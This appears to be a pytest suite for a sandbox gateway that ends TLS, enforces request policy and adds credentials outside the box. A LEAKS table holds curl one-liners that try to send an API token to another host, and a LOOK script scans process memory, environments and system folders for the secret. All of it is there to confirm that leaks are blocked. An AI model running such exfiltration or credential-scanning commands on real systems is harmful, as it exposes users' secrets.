"""Requests that are looked into: TLS ended for a box and begun anew, credentials added outside, with a real nginx behind.

The server has a root of its own, which the gateway is told of by SSL_CERT_FILE; nothing inside a box is told of anything.
"""
import base64
import datetime
import hashlib
import hmac
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import time

import pytest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "gateway"))
from origins import free_port  # noqa: E402

pytestmark = pytest.mark.usefixtures("as_who")

SECRET = "s3cr3t-Value+with/odd=chars-0123456789"
NGINX = """
daemon off;
pid {folder}/pid;
error_log {folder}/error.log;
worker_processes 1;
events {{ worker_connections 512; }}
http {{
    log_format whole escape=none '$host|$request_method|$request_uri|$http_authorization|$http_x_key|$request_body';
    access_log {folder}/access.log whole;
    client_body_temp_path {folder}/body;
    proxy_temp_path {folder}/proxy;
    fastcgi_temp_path {folder}/fastcgi;
    uwsgi_temp_path {folder}/uwsgi;
    scgi_temp_path {folder}/scgi;
    client_max_body_size 100m;
    client_body_buffer_size 1m;
    ssl_certificate_key {folder}/key.pem;
    {servers}
    server {{ listen 127.0.0.1:{sink}; access_log off; return 200 "taken\\n"; }}
    server {{ listen 127.0.0.1:{plain}; server_name _; location / {{ return 200 "plain\\n"; }} }}
}}
"""
SERVER = """
    server {{
        listen 127.0.0.1:{port} ssl;
        server_name {name};
        ssl_certificate {folder}/{certificate}.pem;
        location / {{ default_type text/plain; return 200 "hello $request_method $uri\\n"; }}
        location /echo {{ default_type text/plain; add_header X-Echo "$http_authorization"; return 200 "$http_authorization $http_x_key $args\\n"; }}
        location /body {{ proxy_pass http://127.0.0.1:{sink}/; }}
        location /files/ {{ alias {folder}/files/; }}
    }}
"""
# Names, and what is wrong with their certificates.
NAMES = {"api.test": {}, "other.test": {}, "expired.test": {"days": (-9, -2)}, "early.test": {"days": (2, 9)},
         "self.test": {"is_self": True}, "wrong.test": {"alt": "DNS:right.test"}, "cn.test": {"alt": None},
         "client.test": {"usage": "clientAuth"}}


class Server:
    """nginx, with a root of its own and a certificate for each name."""

    def __init__(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="rf-nginx-"))
        self.folder.chmod(0o755)
        (self.folder / "files").mkdir()
        (self.folder / "files/big").write_bytes(os.urandom(5_000_000))
        self.port, self.sink, self.plain = free_port(), free_port(), free_port()
        self.root = self.folder / "root.pem"
        self.make("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "root.key",
                  "-out", "root.pem", "-subj", "/CN=Test root", "-days", "2")
        self.make("genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", "key.pem")
        for name, how in NAMES.items():
            self.certify(name, **how)
        servers = "".join(SERVER.format(port=self.port, folder=self.folder, name=name, certificate=name, sink=self.sink)
                          for name in NAMES)
        (self.folder / "nginx.conf").write_text(NGINX.format(folder=self.folder, servers=servers, sink=self.sink, plain=self.plain))
        self.process = subprocess.Popen(["nginx", "-c", self.folder / "nginx.conf", "-p", self.folder],
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(200):
            if (self.folder / "pid").exists():
                break
            time.sleep(0.02)
        self.root.chmod(0o644)

    def make(self, *words):
        subprocess.run(["openssl", *words], cwd=self.folder, check=True, capture_output=True)

    def certify(self, name, days=(-1, 2), is_self=False, alt="", usage="serverAuth"):
        now = datetime.datetime.utcnow()
        start, end = ((now + datetime.timedelta(days=day)).strftime("%Y%m%d%H%M%SZ") for day in days)
        text = f"extendedKeyUsage={usage}\n"
        if alt is not None:
            text += f"subjectAltName={alt or 'DNS:' + name}\n"
        (self.folder / "ext").write_text(text)
        (self.folder / "ca.conf").write_text(f"[ca]\ndefault_ca=d\n[d]\ndatabase={self.folder}/index\nnew_certs_dir={self.folder}\n"
                                             "rand_serial=yes\ndefault_md=sha256\npolicy=p\nunique_subject=no\n[p]\ncommonName=supplied\n")
        (self.folder / "index").touch()
        self.make("req", "-new", "-key", "key.pem", "-out", "csr", "-subj", f"/CN={name}")
        signer = ["-selfsign", "-keyfile", "key.pem"] if is_self else ["-cert", "root.pem", "-keyfile", "root.key"]
        self.make("ca", "-batch", "-notext", "-config", "ca.conf", *signer, "-in", "csr", "-out", f"{name}.pem", "-extfile", "ext",
                  "-startdate", start, "-enddate", end)

    def log(self):
        path = self.folder / "access.log"
        lines = path.read_text().splitlines() if path.exists() else []
        return [dict(zip(("host", "method", "uri", "auth", "key", "body"), line.split("|"))) for line in lines]

    def close(self):
        self.process.terminate()
        self.process.wait()
        shutil.rmtree(self.folder)


@pytest.fixture(scope="module")
def server():
    for program in ("nginx", "openssl", "curl"):
        if not shutil.which(program, path=os.environ["PATH"] + ":/usr/sbin"):
            pytest.skip(f"no {program} on this machine")
    one = Server()
    yield one
    one.close()


@pytest.fixture
def box(run_box, server, workdir):
    """box(words, credentials={...}, allow=[...]) runs a program; the policy looks into api.test and other.test."""

    def run(*words, credentials=None, allow=None, more=None, options=(), secret=SECRET, timeout=60, env=None):
        policy = {"version": 1, "network": {
            "allow": allow or [f"GET,POST {name}:{server.port}/**" for name in NAMES] + [f"GET,POST plain.test:{server.plain}/**"],
            "hosts": {**{name: f"127.0.0.1:{server.port}" for name in NAMES}, "plain.test": f"127.0.0.1:{server.plain}"},
            **(more or {})}}
        if credentials:
            policy["credentials"] = credentials
        (workdir / "policy.yaml").write_text(json.dumps(policy))
        return run_box("--policy", workdir / "policy.yaml", "--time", "50s", *options, "--", *words, timeout=timeout,
                       env={"SSL_CERT_FILE": str(server.root), "API_TOKEN": secret, **(env or {})})

    run.url = lambda path="/", name="api.test": f"https://{name}:{server.port}{path}"
    return run


def token(how, **more):
    return {"token": {"from": "env:API_TOKEN", "hosts": ["api.test:*"], "env": "API_TOKEN", **how, **more}}


BEARER = token({"header": "Authorization: Bearer {}"})


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_rules_about_requests_hold_within_tls(box, server, version):
    before = len(server.log())
    done = box("curl", "-sS", version, "-w", "%{http_code}", box.url("/a"), box.url("/b"), "-X", "DELETE")
    assert done.out.count(b"403") >= 1 and done.code == 0, done
    error = json.loads(done.out.split(b"403")[0])["error"]
    assert error["host"] == f"api.test:{server.port}" and error["remedy"], error
    assert len(server.log()) == before, "a denied request was sent"
    done = box("curl", "-sS", version, "-w", "%{http_version}", box.url("/a"))
    assert done.out == b"hello GET /a\n" + (b"2" if version == "--http2" else b"1.1"), done


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_two_ranges_are_not_the_halves_of_a_credential(box, server, version):
    (server.folder / "files/told").write_text(f"you sent {SECRET}\n")
    (server.folder / "files/told").chmod(0o644)
    cut = len("you sent ") + len(SECRET) // 2
    ask = ("sh", "-c", f"for part in 0-{cut - 1} {cut}- -{len(SECRET) // 2}; do curl -sS {version} -r $part -w '%{{http_code}}\n' {box.url('/files/told')}; done")
    done = box(*ask, credentials=BEARER)
    assert done.out.decode() == f"you sent {'*' * len(SECRET)}\n200\n" * 3, done
    done = box(*ask)  # a box without anything to mask has its ranges, though TLS is ended
    assert done.out.decode().startswith(f"you sent {SECRET[:len(SECRET) // 2]}206\n{SECRET[len(SECRET) // 2:]}\n206\n"), done


def test_large_answers_are_whole(box, server):
    want = hashlib.sha256((server.folder / "files/big").read_bytes()).hexdigest().encode()
    done = box("sh", "-c", f"curl -sS --http1.1 {box.url('/files/big')} | sha256sum; curl -sS --http2 {box.url('/files/big')} | sha256sum")
    assert done.out.split() == [want, b"-"] * 2, done


@pytest.mark.parametrize("name", [name for name in NAMES if NAMES[name]])
def test_a_server_that_does_not_prove_who_it_is_gets_nothing(box, server, name):
    before = len(server.log())
    done = box("curl", "-sS", "-w", "%{http_code}", box.url("/secret", name), credentials=BEARER)
    assert done.out.endswith(b"502") and b"TLS" in done.out, done
    assert len(server.log()) == before


def test_the_credential_is_added_outside_and_never_inside(box, server, workdir):
    (workdir / "look.py").write_text(LOOK)
    done = box("/usr/bin/python3", str(workdir / "look.py"), box.url("/echo"), base64.b64encode(SECRET[::-1].encode()).decode(),
               credentials=BEARER)
    assert done.code == 0, done
    told = json.loads(done.out)
    assert told["answer"].startswith("Bearer *") and SECRET not in told["answer"], told
    assert set(told["field"][7:]) == {"*"}, told
    assert told["found"] == [], "the value is in the box"
    assert told["looked"] > 1_000_000
    assert server.log()[-1]["auth"] == f"Bearer {SECRET}"


# Asks, then looks for the value (which it gets backwards, so as not to have it) in its environment, memory, files and neighbours.
LOOK = """
import base64, glob, json, os, ssl, sys, urllib.request
secret = base64.b64decode(sys.argv[2])[::-1]
forms = [secret, base64.b64encode(secret).rstrip(b"="), secret.hex().encode()]
place = os.environ["API_TOKEN"]
request = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + place})
answer = urllib.request.urlopen(request)
told = {"answer": answer.read().decode(), "field": answer.headers["X-Echo"], "found": [], "looked": 0}
own = set(id(form) for form in forms)
def look(where, data):
    told["looked"] += len(data)
    for form in forms:
        if form in data:
            told["found"].append(where)
def memory(pid):
    for line in open(f"/proc/{pid}/maps"):
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        if "r" in line.split()[1] and "[v" not in line:
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as file:
                    file.seek(first)
                    data = file.read(last - first)
            except (OSError, ValueError):
                continue
            told["looked"] += len(data)
            for form in forms:  # but for these very forms
                at = data.find(form)
                count = 0
                while at >= 0:
                    count += 1
                    at = data.find(form, at + 1)
                told.setdefault("copies", []).append(count)
                if count > 6:
                    told["found"].append(f"memory of {pid}: {count}")
look("environment", json.dumps(dict(os.environ)).encode())
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for file in ("environ", "cmdline"):
        try:
            look(f"{file} of {pid}", open(f"/proc/{pid}/{file}", "rb").read())
        except OSError:
            pass
for top in ("/etc", "/tmp", "/run", "/home", os.getcwd()):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    look(os.path.join(folder, name), file.read(4 << 20))
            except OSError:
                pass
print(json.dumps(told))
"""


@pytest.mark.parametrize("how, path, sent", [
    ({"header": "X-Key: k={}"}, "/a", lambda e: e["key"] == f"k={SECRET}"),
    ({"basic": "user"}, "/a", lambda e: e["auth"] == "Basic " + base64.b64encode(f"user:{SECRET}".encode()).decode()),
    ({"query": "key"}, "/a?x=1&key=old&y=2", lambda e: e["uri"] == "/a?x=1&y=2&key=s3cr3t-Value%2Bwith%2Fodd%3Dchars-0123456789"),
], ids=["header", "basic", "query"])
def test_ways_to_add_it(box, server, how, path, sent):
    done = box("curl", "-sS", box.url(path), credentials=token(how))
    assert done.out.startswith(b"hello") and sent(server.log()[-1]), (done, server.log()[-1])


@pytest.mark.parametrize("kind, form", [("text/plain", SECRET), ("application/x-www-form-urlencoded", "s3cr3t-Value%2Bwith%2Fodd%3Dchars-0123456789")])
def test_into_a_body_where_its_placeholder_is(box, server, kind, form):
    credentials = token({"body": "on"})
    for extra in ([], ["-H", "Transfer-Encoding: chunked"]):
        done = box("sh", "-c", f'curl -sS --http1.1 {" ".join(repr(e) for e in extra)} -H "Content-Type: {kind}" -d "a=$API_TOKEN&b=$API_TOKEN" {box.url("/body")}',
                   credentials=credentials)
        assert done.out == b"taken\n" and server.log()[-1]["body"] == f"a={form}&b={form}", (done, server.log()[-1])


def test_requests_to_aws_are_signed(box, server):
    key = "AKIDEXAMPLE:wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"
    done = box("curl", "-sS", "-X", "POST", "-d", "Action=List", box.url("/aws?b=2&a=1"), secret=key,
               credentials=token({"sigv4": "eu-west-1/sts"}))
    assert done.out.startswith(b"hello"), done
    auth = server.log()[-1]["auth"]
    assert auth.startswith("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/") and "/eu-west-1/sts/aws4_request" in auth, auth
    names = auth.split("SignedHeaders=")[1].split(",")[0].split(";")
    assert {"host", "x-amz-date", "content-type"} <= set(names), names
    # The time is not in the log: every second of the last minute is tried.
    fields = {"host": f"api.test:{server.port}", "content-type": "application/x-www-form-urlencoded"}
    now = datetime.datetime.utcnow()
    assert any(signature(key.split(":")[1], now - datetime.timedelta(seconds=s), names, fields) in auth for s in range(60)), auth


def signature(secret, when, names, fields):
    date = when.strftime("%Y%m%dT%H%M%SZ")
    fields = {**fields, "x-amz-date": date}
    body = hashlib.sha256(b"Action=List").hexdigest()
    text = "\n".join(["POST", "/aws", "a=1&b=2", *(f"{name}:{fields.get(name, '')}" for name in names), "", ";".join(names), body])
    scope = f"{date[:8]}/eu-west-1/sts/aws4_request"
    to_sign = "\n".join(["AWS4-HMAC-SHA256", date, scope, hashlib.sha256(text.encode()).hexdigest()])
    value = ("AWS4" + secret).encode()
    for part in (date[:8], "eu-west-1", "sts", "aws4_request"):
        value = hmac.new(value, part.encode(), "sha256").digest()
    return hmac.new(value, to_sign.encode(), "sha256").hexdigest()


LEAKS = {
    "field": "curl -sS -H \"X-Key: $API_TOKEN\" {url}",
    "base64": "curl -sS -H \"X-Key: $(printf %s ab$API_TOKEN | base64 -w0)\" {url}",
    "basic": "curl -sS -u \"me:$API_TOKEN\" {url}",
    "query": "curl -sS \"{url}?t=$API_TOKEN\"",
    "path": "curl -sS \"{url}/$API_TOKEN/x\"",
    "body": "curl -sS -d \"t=$API_TOKEN\" {url}",
    "body in base64": "printf %s $API_TOKEN | base64 -w0 | curl -sS --data-binary @- {url}",
    "stream": "(head -c 400000 /dev/zero; printf %s $API_TOKEN) | curl -sS -T - -X POST {url}",
}


@pytest.mark.parametrize("leak", LEAKS)
def test_a_placeholder_for_somebody_else_is_refused_and_told(box, server, run_json, leak):
    before = [entry for entry in server.log() if entry["host"] == "other.test"]
    path = "/body" if leak == "stream" else "/leak"  # a server that answers before it has read gets no more of it anyway
    done = box("sh", "-c", LEAKS[leak].format(url=box.url(path, "other.test")), credentials=BEARER, options=["--json"])
    result = json.loads(done.out)
    if leak == "stream":  # was under way when it was seen
        assert "taken" not in result["stdout"], result
    else:
        assert "credential_not_bound" in result["stdout"] and SECRET not in result["stdout"], result
        assert [entry for entry in server.log() if entry["host"] == "other.test"] == before
        assert any(denial["kind"] == "network" for denial in result["denials"]), result["denials"]


def test_never_in_clear(box, server):
    done = box("sh", "-c", f'curl -sS http://plain.test:{server.plain}/; curl -sS -H "Authorization: Bearer $API_TOKEN" http://plain.test:{server.plain}/',
               credentials=token({"header": "Authorization: Bearer {}"}, hosts=["api.test:*", "plain.test:*"]))
    assert done.out.startswith(b"plain\n") and b"credential_in_clear" in done.out, done
    entries = [entry for entry in server.log() if entry["host"] == "plain.test"]
    assert entries[-1]["auth"] in ("", "-"), entries[-1]


def test_a_budget_holds(box, server):
    url = box.url("/a")
    done = box("curl", "-sS", "-w", "%{http_code} ", "-o", os.devnull, url, "-o", os.devnull, url, "-o", os.devnull, url,
               credentials=token({"header": "Authorization: Bearer {}"}, budget="2/day"))
    assert done.out == b"200 200 429 ", done


PYTHON = {
    "urllib": "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode(), end='')",
    "requests": "import sys, requests; print(requests.get(sys.argv[1]).text, end='')",
    "httpx": "import sys, httpx; print(httpx.get(sys.argv[1]).text, end='')",
}
NODE = "fetch(process.argv[1]).then(r => r.text()).then(t => process.stdout.write(t), e => { console.log(e.cause); process.exit(1) })"
RUBY = "require 'net/http'; print Net::HTTP.get(URI(ARGV[0]))"
PROGRAMS = {
    "curl": ["curl", "-sS"], "wget": ["wget", "-qO-"], "node": ["node", "-e", NODE], "ruby": ["ruby", "-e", RUBY],
    **{name: ["/usr/bin/python3", "-c", text] for name, text in PYTHON.items()},
    "openssl": ["sh", "-c", "printf 'GET /p HTTP/1.1\\r\\nHost: '${0#https://} | sed 's#/p$##' >/tmp/q; printf '\\r\\nConnection: close\\r\\n\\r\\n' >>/tmp/q; "
                "openssl s_client -quiet -verify_return_error -connect $(echo ${0#https://} | sed 's#/p$##') -servername api.test </tmp/q 2>/dev/null | tail -1"],
}


@pytest.mark.parametrize("program", PROGRAMS)
def test_programs_trust_it_without_being_told(box, need, program):
    words = PROGRAMS[program]
    need(words[0])
    if program in ("requests", "httpx") and subprocess.run(["/usr/bin/python3", "-c", f"import {program}"], check=False,
                                                           capture_output=True).returncode:
        pytest.skip(f"no {program} on this machine")
    done = box(*words, box.url("/p"))
    assert done.out.decode().endswith("hello GET /p\n"), done


def test_git_trusts_it(box, need, server):
    need("git")
    done = box("git", "ls-remote", box.url("/files/none.git"))
    assert b"certificate" not in done.err and b"not found" in done.err, done


def test_go_trusts_it(box, need, workdir):
    need("go")
    (workdir / "get.go").write_text("""package main
import ("fmt"; "io"; "net/http"; "os")
func main() {
	r, err := http.Get(os.Args[1])
	if err != nil { fmt.Println(err); os.Exit(1) }
	b, _ := io.ReadAll(r.Body)
	fmt.Print(string(b))
}
""")
    subprocess.run(["go", "build", "-o", str(workdir / "get"), str(workdir / "get.go")], check=True, capture_output=True,
                   env={**os.environ, "CGO_ENABLED": "0"}, cwd=workdir)
    (workdir / "get").chmod(0o755)
    assert box(str(workdir / "get"), box.url("/p")).out == b"hello GET /p\n"


def test_java_trusts_it(box, need, workdir):
    need("java", "javac")
    (workdir / "Get.java").write_text("""import java.net.URI; import java.net.http.*;
public class Get { public static void main(String[] a) throws Exception {
  System.out.print(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), HttpResponse.BodyHandlers.ofString()).body());
  System.exit(0); } }
""")
    subprocess.run(["javac", "-d", str(workdir), str(workdir / "Get.java")], check=True, capture_output=True)
    done = box("java", "-cp", str(workdir), "Get", box.url("/p"), options=["--memory", "1G", "--pids", "200"])
    assert done.out == b"hello GET /p\n", done


def test_chromium_trusts_it(box, need):
    chromium = "/usr/lib/chromium/chromium"
    need(chromium)
    done = box("sh", "-c", f"HOME=/tmp {chromium} --headless --no-sandbox --disable-gpu --dump-dom {box.url('/p')} 2>/dev/null",
               options=["--memory", "2G", "--pids", "512", "--disk", "500M", "--unix", "on"])
    assert b"hello GET /p" in done.out, done


@pytest.mark.parametrize("verify", ["true", "false"])
def test_what_a_shadow_run_sends_goes_out_with_the_credential_once_it_counts(post, server, verify):
    tree, policy = post.top / "tree", post.top / "policy.yaml"
    tree.mkdir()
    shutil.chown(tree, *(2 * [12345] if post.who == "user" and os.geteuid() == 0 else [os.geteuid(), os.getegid()]))
    # Without methods and paths: such a host is looked into in a shadow run alone.
    policy.write_text(json.dumps({"version": 1, "credentials": BEARER, "network": {
        "allow": [f"api.test:{server.port}", f"other.test:{server.port}"],
        "hosts": {name: f"127.0.0.1:{server.port}" for name in ("api.test", "other.test")}}}))
    policy.chmod(0o644)
    post.env.update(SSL_CERT_FILE=str(server.root), API_TOKEN=SECRET)
    before = len(server.log())
    script = "; ".join(f"curl -s -o /dev/null -w '%{{http_code}} ' -d sent https://{name}:{server.port}/body" for name in ("api.test", "other.test"))
    done = post.run("shadow", "--json", "--policy", policy, "--workspace", tree, "--verify", verify, "--", "sh", "-c", script)
    told = json.loads(done.stdout)
    assert told["run"]["stdout"] == "202 202 ", told
    assert SECRET not in done.stdout
    sent = [(row["host"], row["method"], row["auth"], row["body"]) for row in server.log()[before:]]
    if verify == "false":
        assert done.returncode == 2 and sent == [] and [row["state"] for row in told["requests"]] == ["kept", "kept"]
    else:
        assert done.returncode == 0, told
        assert sent == [("api.test", "POST", f"Bearer {SECRET}", "sent"), ("other.test", "POST", "", "sent")]


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_an_answer_that_comes_before_the_request_is_sent_ends_it(box, version):
    # The server answers without reading: whatever becomes of the rest, nobody waits for good.
    done = box("sh", "-c", f"for i in 1 2 3 4; do head -c 900000 /dev/zero | timeout 10 curl -sS {version} -T - -X POST {box.url('/x')}; echo code $?; done")
    assert "code 124" not in done.out.decode(), done
